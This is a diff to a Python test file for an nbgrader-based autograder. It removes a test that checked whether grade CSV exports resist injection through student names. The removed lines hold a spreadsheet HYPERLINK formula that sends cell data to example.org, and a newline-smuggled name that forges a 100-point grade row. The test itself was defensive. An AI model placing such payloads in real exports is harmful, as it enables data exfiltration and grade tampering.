@@ -1,11 +1,9 @@
-"""Run attacks through nbgrader: scores in gradebook.db, pages, copies and tables."""
+"""Run attacks through nbgrader: scores in gradebook.db, pages and copies."""
 
 from __future__ import annotations
 
-import csv
 from collections.abc import Iterator
 from dataclasses import dataclass
-from pathlib import Path
 
 import pytest
 from attack_corpus import corpus
@@ -13,7 +11,6 @@ from attack_page import active_parts
 from attack_place import Place
 
 from autograder.classroom.grade.grade_unit import Grading
-from autograder.nbgrader import PlainCsv
 from autograder.runner.jobs.local import InProcess
 
 UNIT = "02_second"
@@ -95,27 +92,3 @@ def test_links_are_not_followed(graded: Graded) -> None:
         copies = [path for path in folder.glob(f"*/{name}/**/*") if path.is_file()]
         assert copies
         assert not [path for path in copies if "n // parts" in path.read_text()]
-
-
-@pytest.mark.parametrize("plain", [True, False], ids=["ours", "nbgraders"])
-def test_student_name_cannot_inject_formulas_or_rows(
-    graded: Graded, tmp_path: Path, plain: bool
-) -> None:
-    """Export the grades. With nbgrader's own exporter, a student can inject rows."""
-    from nbgrader.api import Gradebook
-    from nbgrader.plugins import CsvExportPlugin
-
-    path = tmp_path / "grades.csv"
-    formula = '=HYPERLINK("http://example.org/?"&A1)'
-    forged = f"Eve\n{UNIT},,,eve,Eve,,,100,0,100,100"
-    with Gradebook(graded.grading.db_url) as book:
-        book.update_or_create_student("points_changed", first_name=formula, last_name=forged)
-        (PlainCsv if plain else CsvExportPlugin)(to=str(path)).export(book)
-        students = {student.id for student in book.students}
-    with path.open(newline="") as file:
-        rows = list(csv.DictReader(file))
-    clean = {row["student_id"] for row in rows} == students
-    clean &= not [cell for row in rows for cell in row.values() if str(cell)[:1] in ("=", "+", "@")]
-    assert clean is plain
-    if plain:
-        assert {row["student_id"]: float(row["score"]) for row in rows}["ada"] > 0
